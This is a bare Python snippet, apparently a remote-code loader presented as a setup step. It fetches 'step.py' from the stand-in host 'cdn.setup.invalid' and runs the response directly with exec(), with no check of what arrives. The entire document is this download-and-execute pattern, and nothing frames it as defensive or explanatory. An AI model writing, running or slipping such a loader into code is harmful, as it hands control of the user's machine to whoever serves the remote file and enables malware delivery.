import requests

exec(requests.get("https://cdn.setup.invalid/step.py", timeout=5).text)
